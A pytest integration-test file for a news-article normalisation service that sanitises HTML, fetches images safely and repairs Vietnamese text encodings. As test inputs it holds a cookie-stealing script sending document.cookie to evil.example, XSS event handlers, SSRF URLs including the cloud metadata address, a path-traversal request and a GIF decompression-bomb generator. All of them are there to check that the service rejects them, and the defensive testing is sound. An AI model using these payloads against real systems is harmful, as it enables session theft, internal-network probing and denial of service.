"""The normalize service on the real stack: article.ingested in, article.normalized out.

Live traffic goes to loopback only: the test's own image server (named in
IMAGE_FETCH_ALLOW_HOSTS) and loopback addresses that must be refused; private, link-local and
metadata addresses are refused by classification, before anything is sent.
"""

from __future__ import annotations

import asyncio
import base64
import io
import random
import uuid
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from typing import Any

import httpx
import psutil
import pytest
from asgi_lifespan import LifespanManager
from fastapi import FastAPI
from PIL import ExifTags, Image
from sqlalchemy import text

from portal_contracts.articles import (
    ArticleAction,
    ArticleContent,
    ArticleIngested,
    ArticleIngestedEvent,
    ArticleNormalizedEvent,
    Channel,
    ImageRef,
    article_id_for,
)
from portal_contracts.topics import ARTICLE_INGESTED, ARTICLE_NORMALIZED
from portal_normalize import repository, similarity, similarity_v1
from portal_normalize.app import create_app
from portal_normalize.fetch import ImageFetcher
from portal_normalize.imagepool import ImagePool
from portal_normalize.media import MediaService
from portal_normalize.settings import Settings
from portal_normalize.similarity import signature
from portal_runtime.db import make_engine, make_sessionmaker
from portal_runtime.storage import ObjectStore

from .normalize_imageserver import ImageServer, image_server, jpeg, png

pytestmark = pytest.mark.stack

SOURCE = "tinh-thu-nghiem"
PARAGRAPH = (
    "Đảng Cộng sản Việt Nam lãnh đạo toàn diện công tác xây dựng, chỉnh đốn Đảng và hệ thống "
    "chính trị trong sạch, vững mạnh; phát huy sức mạnh đại đoàn kết toàn dân tộc. "
)


@pytest.fixture(scope="module")
def images() -> Iterator[ImageServer]:
    with image_server() as server:
        yield server


@pytest.fixture
async def normalize(
    env_for: Any, images: ImageServer
) -> AsyncIterator[tuple[FastAPI, dict[str, str]]]:
    env = env_for("normalize", IMAGE_FETCH_ALLOW_HOSTS=images.host)
    app = create_app()
    async with LifespanManager(app, startup_timeout=120, shutdown_timeout=60):
        yield app, env


def _ingested(
    external_id: str,
    revision: int,
    *,
    action: ArticleAction = ArticleAction.UPSERT,
    source: str = SOURCE,
    **fields: Any,
) -> ArticleIngestedEvent:
    article_id = article_id_for(source, external_id)
    content = None
    if action is ArticleAction.UPSERT:
        values: dict[str, Any] = {
            "title": "Hội nghị",
            "body_html": "<p>Nội dung</p>",
            "section": "ct-tin-tuc-hoat-dong",
            "canonical_url": "https://tinh.example.vn/tin/1.html",
        }
        values.update(fields)
        content = ArticleContent.model_validate(values)
    return ArticleIngestedEvent(
        producer="ingest",
        subject=article_id,
        data=ArticleIngested(
            article_id=article_id,
            source=source,
            external_id=external_id,
            revision=revision,
            action=action,
            channel=Channel.REST,
            received_at=datetime.now(UTC),
            content=content,
        ),
    )


async def _normalized(kafka_events: Any, event: ArticleIngestedEvent) -> ArticleNormalizedEvent:
    await kafka_events.produce(ARTICLE_INGESTED.name, event)
    found = await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject, until=bool)
    return ArticleNormalizedEvent.model_validate(found[0])


def _admin(app: FastAPI, env: dict[str, str]) -> httpx.AsyncClient:
    return httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app),
        base_url="http://normalize",
        headers={"Authorization": f"Bearer {env['ADMIN_TOKEN']}"},
    )


async def test_dirty_html_comes_out_clean(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
) -> None:
    app, env = normalize
    picture = images.add(f"/{uuid.uuid4().hex}.jpg", jpeg(800, 600))
    dirty = (
        '<div class="noi-dung" style="font-family:Arial">'
        "<h1>Hội nghị lần thứ 8</h1>"
        '<p onclick="steal()">Thuỷ lợi và hoà bình <font color="red">phát triển</font>.</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<p><a href="javascript:alert(1)">bấm</a> <a href="/tin/khac.html">tin khác</a></p>'
        f'<img src="{picture}" onerror="alert(1)" alt="Ảnh">'
        '<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>'
        "</div>"
    )
    ext = uuid.uuid4().hex
    event = _ingested(ext, 1, title="  Hoà bình &amp; <b>phát triển</b>", body_html=dirty)
    out = await _normalized(kafka_events, event)
    assert out.producer == "normalize"
    data = out.data
    assert (data.source, data.external_id, data.revision) == (SOURCE, ext, 1)
    assert data.article is not None
    html = data.article.body_html
    for dangerous in ("<script", "javascript:", "onerror", "onclick", "<iframe", "<svg", "style="):
        assert dangerous not in html
    assert "<font" not in html and "class=" not in html
    assert "<h2>Hội nghị lần thứ 8</h2>" in html
    assert "Thủy lợi và hòa bình" in html  # one tone placement
    assert 'href="https://tinh.example.vn/tin/khac.html" rel="noopener noreferrer nofollow"' in html
    assert '<img src="/media/images/' in html and 'alt="Ảnh"' in html
    assert data.article.title == "Hòa bình & phát triển"
    assert data.article.lead_image is not None
    assert data.quality is not None
    repairs = {r.code for r in data.quality.repairs}
    assert {
        "markup_removed",
        "attributes_removed",
        "unsafe_url_removed",
        "images_stored",
    } <= repairs

    # Operators can look the result up.
    async with _admin(app, env) as client:
        status = await client.get(f"/admin/v1/articles/{event.subject}")
        assert status.status_code == 200, status.text
        assert status.json()["revision"] == 1
        client.headers.pop("Authorization")
        assert (await client.get(f"/admin/v1/articles/{event.subject}")).status_code == 401


async def test_images_are_stored_with_renditions_and_failures_reported(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
) -> None:
    run = uuid.uuid4().hex
    photo = images.add(
        f"/{run}/photo.jpg", jpeg(1800, 1200), headers={"Content-Type": "image/jpeg"}
    )
    chart = images.add(f"/{run}/chart.png", png(500, 300), headers={"Content-Type": "text/plain"})
    page = images.add(f"/{run}/page.jpg", b"<!DOCTYPE html><html>404</html>")
    gone = images.url(f"/{run}/gone.jpg")
    event = _ingested(
        run,
        1,
        images=[ImageRef(url=photo, caption="Quang cảnh hội nghị")],
        body_html=(
            f"<p>{PARAGRAPH}</p><p><img src='{chart}' alt='Biểu đồ'></p>"
            f"<p><img src='{page}'></p><p><img src='{gone}'></p>"
        ),
    )
    out = await _normalized(kafka_events, event)
    article, quality = out.data.article, out.data.quality
    assert article is not None and quality is not None
    assert [m.original_url for m in article.images] == [photo, chart]
    lead = article.lead_image
    assert lead is not None and lead.original_url == photo and lead.caption == "Quang cảnh hội nghị"
    assert (lead.width, lead.height) == (1800, 1200)
    assert sorted(int(w) for w in lead.renditions) == [320, 640, 1024, 1600]

    store = ObjectStore(Settings())
    assert lead.object_key is not None
    original = Image.open(io.BytesIO(await store.get(lead.object_key)))
    assert original.size == (1800, 1200)
    assert not original.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # where it was taken: gone
    # Renditions are made on their first request (publishing's /media/ asks on a miss), then
    # kept in object storage.
    app, env = normalize
    async with _admin(app, env) as client:
        for width, key in lead.renditions.items():
            got = await client.get(f"/v1/renditions/{key}")
            assert got.status_code == 200, got.text
            assert got.headers["content-type"] == "image/webp"
            rendition = Image.open(io.BytesIO(got.content))
            assert rendition.format == "WEBP" and rendition.size == (
                int(width),
                round(1200 * int(width) / 1800),
            )
            assert await store.get(key) == got.content
        unknown = lead.renditions["320"].replace("/w320.", "/w321.")
        assert (await client.get(f"/v1/renditions/{unknown}")).status_code == 404
        assert (await client.get("/v1/renditions/images/../secrets.json")).status_code == 404
    chart_ref = article.images[1]
    assert chart_ref.object_key is not None and chart_ref.object_key.endswith(".png")
    assert f'src="/media/{chart_ref.object_key}"' in article.body_html

    # Each failed image is named, with its reason.
    codes = {i.code: i.message for i in quality.issues}
    assert codes["image_broken"].startswith(page) and "HTML page" in codes["image_broken"]
    assert codes["image_missing"].startswith(gone) and "HTTP 404" in codes["image_missing"]

    # The same image in a later article is not fetched again.
    hits = images.hits[f"/{run}/photo.jpg"]
    again = _ingested(
        uuid.uuid4().hex, 1, images=[ImageRef(url=photo)], body_html=f"<p>{PARAGRAPH}</p>"
    )
    out2 = await _normalized(kafka_events, again)
    assert out2.data.article is not None and out2.data.article.lead_image is not None
    assert out2.data.article.lead_image.object_key == lead.object_key
    assert images.hits[f"/{run}/photo.jpg"] == hits


async def test_internal_addresses_are_refused_and_the_article_still_goes_on(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
) -> None:
    run = uuid.uuid4().hex
    with image_server() as internal:  # a loopback server nobody allowed
        secret = internal.add("/secret.jpg", jpeg(400, 300))
        hop = images.redirect(f"/{run}/hop.jpg", secret)
        urls = [
            secret,  # loopback, not allowed
            hop,  # the allowed server redirects to loopback
            images.redirect(f"/{run}/meta.jpg", "http://169.254.169.254/latest/meta-data/"),
            "http://10.20.30.40/anh.jpg",
            "http://[::ffff:127.0.0.1]:9/anh.jpg",
        ]
        event = _ingested(
            run,
            1,
            body_html=f"<p>{PARAGRAPH}</p>" + "".join(f"<p><img src='{u}'></p>" for u in urls),
        )
        out = await _normalized(kafka_events, event)
        assert internal.hits == {}  # nothing reached it
    article, quality = out.data.article, out.data.quality
    assert article is not None and quality is not None
    assert article.images == [] and "<img" not in article.body_html
    assert PARAGRAPH.strip()[:40] in article.body_text  # publishable: the text is all there
    refused = [i.message for i in quality.issues if i.code == "image_refused"]
    assert len(refused) == len(urls)
    for url, message in zip(urls, refused, strict=True):
        assert message.startswith(url)
    assert any("cloud metadata" in m for m in refused)
    assert any("loopback" in m for m in refused)
    assert any("private" in m for m in refused)


async def test_category_mapping_and_time_zone_come_from_the_admin_api(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    app, env = normalize
    source = f"tinh-{uuid.uuid4().hex[:10]}"
    async with _admin(app, env) as client:
        bad = await client.put(
            f"/admin/v1/sources/{source}/mapping", json={"categories": {}, "timezone": "Mars/Base"}
        )
        assert bad.status_code == 422 and "timezone" in bad.text
        bad = await client.put(
            f"/admin/v1/sources/{source}/mapping", json={"categories": {"Tin": "Không hợp lệ"}}
        )
        assert bad.status_code == 422 and "categories" in bad.text
        assert (await client.get(f"/admin/v1/sources/{source}/mapping")).status_code == 404
        put = await client.put(
            f"/admin/v1/sources/{source}/mapping",
            json={"categories": {"Xây dựng Đảng": "ct-xay-dung-dang"}, "timezone": "Asia/Tokyo"},
        )
        assert put.status_code == 200, put.text
        got = (await client.get(f"/admin/v1/sources/{source}/mapping")).json()
        assert got["categories"] == {"Xây dựng Đảng": "ct-xay-dung-dang"}
        assert got["timezone"] == "Asia/Tokyo"
        client.headers.pop("Authorization")
        assert (await client.get(f"/admin/v1/sources/{source}/mapping")).status_code == 401

    event = _ingested(
        uuid.uuid4().hex,
        1,
        source=source,
        section=None,
        categories=["Trang chủ > XÂY DỰNG ĐẢNG"],
        published_at=datetime(2025, 3, 1, 9, 0),
        body_html=f"<p>{PARAGRAPH}</p>",
    )
    out = await _normalized(kafka_events, event)
    assert out.data.article is not None
    assert out.data.article.section == "ct-xay-dung-dang"
    assert out.data.article.published_at == datetime(2025, 3, 1, 0, 0, tzinfo=UTC)  # UTC+9


def _unique_story() -> str:
    """A story no other test (or earlier run on this stack) has told."""
    words = PARAGRAPH.replace(",", "").replace(";", "").replace(".", "").split()
    rng = random.Random(uuid.uuid4().int)
    sentences = [" ".join(rng.choice(words) for _ in range(14)).capitalize() for _ in range(12)]
    return ". ".join(sentences) + "."


async def test_a_story_sent_again_is_linked_to_the_first(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    app, env = normalize
    story = _unique_story()
    first = _ingested(uuid.uuid4().hex, 1, title="Tin gốc", body_html=f"<p>{story}</p>")
    out1 = await _normalized(kafka_events, first)
    assert out1.data.duplicate_of is None
    # The same story from another agency, with a new headline and a changed sentence.
    again = _ingested(
        uuid.uuid4().hex,
        1,
        source="tinh-khac",
        title="Tin gửi lại",
        body_html=f"<p>Tin mới. {story[: len(story) * 9 // 10]} Hết.</p>",
    )
    out2 = await _normalized(kafka_events, again)
    assert out2.data.duplicate_of == first.subject
    # A third copy links to the first too (never to a duplicate).
    third = _ingested(uuid.uuid4().hex, 1, body_html=f"<p>{story}</p>")
    assert (await _normalized(kafka_events, third)).data.duplicate_of == first.subject
    different = _ingested(uuid.uuid4().hex, 1, body_html=f"<p>{_unique_story()}</p>")
    assert (await _normalized(kafka_events, different)).data.duplicate_of is None
    async with _admin(app, env) as client:
        status = (await client.get(f"/admin/v1/articles/{again.subject}")).json()
        assert status["duplicate_of"] == first.subject


async def test_a_legacy_encoded_article_arrives_in_unicode(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    body = (
        '<p><font face=".VnTime">Ban Th­êng vô TØnh ñy häp phiªn th­êng kú, '
        "th¶o luËn nhiÒu néi dung quan träng.</font></p>"
        '<p><span style="font-family:VNI-Times">Ñaûng boä tænh laõnh ñaïo toaøn dieän.</span></p>'
        f"<p>{PARAGRAPH}</p>"
    )
    title = "Há»™i nghá»‹ Tá»‰nh á»§y"  # UTF-8 read as Windows-1252
    out = await _normalized(
        kafka_events, _ingested(uuid.uuid4().hex, 1, title=title, body_html=body)
    )
    article, quality = out.data.article, out.data.quality
    assert article is not None and quality is not None
    assert article.title == "Hội nghị Tỉnh ủy"
    assert "Ban Thường vụ Tỉnh ủy họp phiên thường kỳ" in article.body_text
    assert "Đảng bộ tỉnh lãnh đạo toàn diện." in article.body_text
    codes = {r.code for r in quality.repairs}
    assert {"encoding_tcvn3", "encoding_vni", "encoding_utf8_mojibake"} <= codes
    assert "unknown_encoding" not in {i.code for i in quality.issues}


async def test_older_revisions_and_repeats_are_ignored(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    ext = uuid.uuid4().hex
    newer = _ingested(ext, 2, title="Bản hai")
    older = _ingested(ext, 1, title="Bản một")
    newest = _ingested(ext, 3, title="Bản ba")
    # The newer revision first, then a stale one, the same event again, then a newer one.
    await kafka_events.produce(ARTICLE_INGESTED.name, newer, older, newer, newest)
    found = await kafka_events.read(
        ARTICLE_NORMALIZED.name,
        newer.subject,
        until=lambda evs: any(e["data"]["revision"] == 3 for e in evs),
    )
    assert [e["data"]["revision"] for e in found] == [2, 3]
    assert [e["data"]["article"]["title"] for e in found] == ["Bản hai", "Bản ba"]


async def test_retraction_passes_through(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    ext = uuid.uuid4().hex
    first = _ingested(ext, 1)
    retract = _ingested(ext, 2, action=ArticleAction.RETRACT)
    await kafka_events.produce(ARTICLE_INGESTED.name, first, retract)
    found = await kafka_events.read(
        ARTICLE_NORMALIZED.name, first.subject, until=lambda evs: len(evs) >= 2
    )
    last = ArticleNormalizedEvent.model_validate(found[-1]).data
    assert last.action is ArticleAction.RETRACT
    assert last.revision == 2
    assert last.article is None


async def test_an_upsert_without_content_is_dead_lettered(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any
) -> None:
    event = _ingested(uuid.uuid4().hex, 1)
    broken = event.model_copy(update={"data": event.data.model_copy(update={"content": None})})
    await kafka_events.produce(ARTICLE_INGESTED.name, broken)

    def about_ours(letter: dict[str, Any]) -> bool:
        key = letter["data"].get("original_key_b64")
        if letter["data"].get("consumer_group") != "normalize":
            return False  # other consumers of the topic dead-letter into the same place
        return key is not None and base64.b64decode(key) == event.subject.encode()

    letters = await kafka_events.read(
        ARTICLE_INGESTED.dead_letter_topic, None, until=lambda evs: any(map(about_ours, evs))
    )
    letter = next(e for e in letters if about_ours(e))["data"]
    assert "without content" in letter["reason"]
    assert await kafka_events.read(ARTICLE_NORMALIZED.name, event.subject) == []


async def test_an_articles_images_share_a_time_budget(env_for: Any, images: ImageServer) -> None:
    env_for("normalize", IMAGE_FETCH_ALLOW_HOSTS=images.host, IMAGE_ARTICLE_BUDGET_S="1.5")
    settings = Settings()
    engine = make_engine(settings.database_url)
    fetcher = ImageFetcher(
        timeout_s=10,
        connect_timeout_s=2,
        max_bytes=settings.image_max_bytes,
        max_redirects=2,
        user_agent="test",
        allow_hosts=settings.allowed_hosts,
    )
    pool = ImagePool(workers=1, memory_mb=1024, timeout_s=20)
    media = MediaService(settings, ObjectStore(settings), make_sessionmaker(engine), fetcher, pool)
    run = uuid.uuid4().hex
    await pool.warm()
    fast = images.add(f"/{run}/fast.jpg", jpeg(400, 300))
    slow = images.add(f"/{run}/slow.jpg", jpeg(400, 300), delay_s=4.0)
    try:
        outcomes = await media.resolve([fast, slow])
        assert outcomes[fast].ok
        assert outcomes[slow].code == "timeout" and "time for images" in (
            outcomes[slow].reason or ""
        )
        # Cut short by the budget is not cached as a failure: the next revision tries again.
        before = images.hits[f"/{run}/slow.jpg"]
        await media.resolve([fast, slow])
        assert images.hits[f"/{run}/slow.jpg"] == before + 1
        assert images.hits[f"/{run}/fast.jpg"] == 1  # stored: reused, not fetched again
    finally:
        await fetcher.aclose()
        await engine.dispose()
        pool.close()


def animated_bomb(frames: int = 60, side: int = 2000) -> bytes:
    """An animated GIF of ``frames`` frames of ``side`` x ``side`` pixels (240 megapixels by
    default) in a few hundred KB: one frame's compressed pixels, repeated."""
    one = io.BytesIO()
    Image.new("P", (side, side), 1).save(one, "GIF")
    data = one.getvalue()
    flags = data[10]
    table = 3 * 2 ** ((flags & 7) + 1) if flags & 0x80 else 0
    head, body = data[: 13 + table], data[13 + table : -1]  # body: extensions and the image
    loop = b"!\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    return head + loop + body * frames + b";"


def _resident_mb() -> float:
    """This process (normalize runs in it here) and its image workers."""
    me = psutil.Process()
    return sum(p.memory_info().rss for p in [me, *me.children(recursive=True)]) / 2**20


async def test_an_animated_bomb_is_reduced_within_a_memory_budget_and_normalize_goes_on(
    normalize: tuple[FastAPI, dict[str, str]], kafka_events: Any, images: ImageServer
) -> None:
    run = uuid.uuid4().hex
    bomb = animated_bomb()
    assert len(bomb) < 1_000_000
    warm = images.add(f"/{run}/warm.jpg", jpeg(800, 600))
    await _normalized(
        kafka_events, _ingested(f"{run}-warm", 1, images=[ImageRef(url=warm)], body_html="<p>x</p>")
    )  # the image workers are up and have worked: the baseline includes them
    baseline = peak = _resident_mb()
    stop = asyncio.Event()

    async def sample() -> None:
        nonlocal peak
        while not stop.is_set():
            peak = max(peak, _resident_mb())
            await asyncio.sleep(0.02)

    sampler = asyncio.create_task(sample())
    url = images.add(f"/{run}/bomb.gif", bomb, headers={"Content-Type": "image/gif"})
    try:
        out = await _normalized(
            kafka_events, _ingested(f"{run}-bomb", 1, images=[ImageRef(url=url)])
        )
    finally:
        stop.set()
        await sampler
    assert peak - baseline < 200, f"resident memory grew by {peak - baseline:.0f} MB"
    article = out.data.article
    assert article is not None and article.lead_image is not None
    # Reduced: kept as its first frame, a still picture.
    assert article.lead_image.object_key is not None
    stored = Image.open(
        io.BytesIO(await ObjectStore(Settings()).get(article.lead_image.object_key))
    )
    assert stored.size == (2000, 2000) and getattr(stored, "n_frames", 1) == 1

    # And normalize keeps serving: the next article goes through with its image.
    after = images.add(f"/{run}/after.jpg", jpeg(640, 480))
    nxt = await _normalized(kafka_events, _ingested(f"{run}-next", 1, images=[ImageRef(url=after)]))
    assert nxt.data.article is not None and nxt.data.article.lead_image is not None
    assert nxt.data.article.lead_image.object_key is not None


async def test_a_batch_links_its_repeats_and_a_popular_story_costs_no_more(
    env_for: Any,
) -> None:
    env_for("normalize")
    engine = make_engine(Settings().database_url)
    sessions = make_sessionmaker(engine)
    story, other = _unique_story(), _unique_story()

    def fingerprinted(text: str) -> repository.Fingerprinted:
        return repository.Fingerprinted(uuid.uuid4().hex, SOURCE, signature(text))

    try:
        first = fingerprinted(story)
        # One batch: a story, a repeat of it, another story, a repeat of that one.
        batch = [first, fingerprinted(story), fingerprinted(other), fingerprinted(other + " Hết.")]
        async with sessions.begin() as session:
            twins = await repository.link_duplicates(session, batch)
        assert [t.article_id if t else None for t in twins] == [
            None,
            first.article_id,
            None,
            batch[2].article_id,
        ]
        # Many more repeats: each links to the first, and only the first stands for the story
        # in the band index, so a lookup reads the same few rows however popular it gets.
        for _ in range(3):
            repeats = [fingerprinted(story) for _ in range(20)]
            async with sessions.begin() as session:
                twins = await repository.link_duplicates(session, repeats)
            assert {t.article_id if t else None for t in twins} == {first.article_id}
        async with sessions() as session:
            indexed = (
                await session.execute(
                    text(
                        "SELECT count(DISTINCT article_id) FROM fingerprint_bands "
                        "WHERE article_id = ANY(:ids)"
                    ),
                    {"ids": [first.article_id, *(r.article_id for r in repeats)]},
                )
            ).scalar_one()
        assert indexed == 1
    finally:
        await engine.dispose()


async def test_a_story_signed_by_scheme_1_is_found_while_it_is_looked_up(
    env_for: Any,
) -> None:
    env_for("normalize")
    engine = make_engine(Settings().database_url)
    sessions = make_sessionmaker(engine)
    story = _unique_story()
    old = uuid.uuid4().hex
    signed_before = similarity_v1.signature(story)
    assert signed_before is not None
    try:
        # Stored before scheme 2: its scheme-1 signature and bands, as the migration left them.
        async with sessions.begin() as session:
            await session.execute(
                text(
                    "INSERT INTO fingerprints (article_id, source, signature, scheme) "
                    "VALUES (:a, :s, :sig, 1)"
                ),
                {"a": old, "s": SOURCE, "sig": similarity.pack(signed_before)},
            )
            await session.execute(
                text("INSERT INTO fingerprint_bands (band, key, article_id) VALUES (:b, :k, :a)"),
                [
                    {"b": band, "k": key, "a": old}
                    for band, key in enumerate(
                        similarity.bands(signed_before),
                        start=similarity.first_band(similarity_v1.SCHEME),
                    )
                ],
            )
        assert await repository.Scheme1Stories(sessions, days=30).active()
        assert not await repository.Scheme1Stories(sessions, days=0).active()

        # Signed by both schemes while such stories are looked up: the repeat is found.
        repeat = repository.Fingerprinted(
            uuid.uuid4().hex, SOURCE, signature(story), similarity_v1.signature(story)
        )
        # Signed by scheme 2 alone: the scheme-1 story is not compared with it.
        alone = repository.Fingerprinted(uuid.uuid4().hex, SOURCE, signature(story))
        async with sessions.begin() as session:
            twins = await repository.link_duplicates(session, [repeat])
        assert twins[0] is not None and twins[0].article_id == old
        async with sessions.begin() as session:
            assert await repository.link_duplicates(session, [alone]) == [None]
        async with sessions() as session:
            schemes = dict(
                (
                    await session.execute(
                        text(
                            "SELECT article_id, scheme FROM fingerprints WHERE article_id = ANY(:ids)"
                        ),
                        {"ids": [old, repeat.article_id, alone.article_id]},
                    )
                ).all()
            )
        assert schemes == {old: 1, repeat.article_id: 2, alone.article_id: 2}
    finally:
        await engine.dispose()
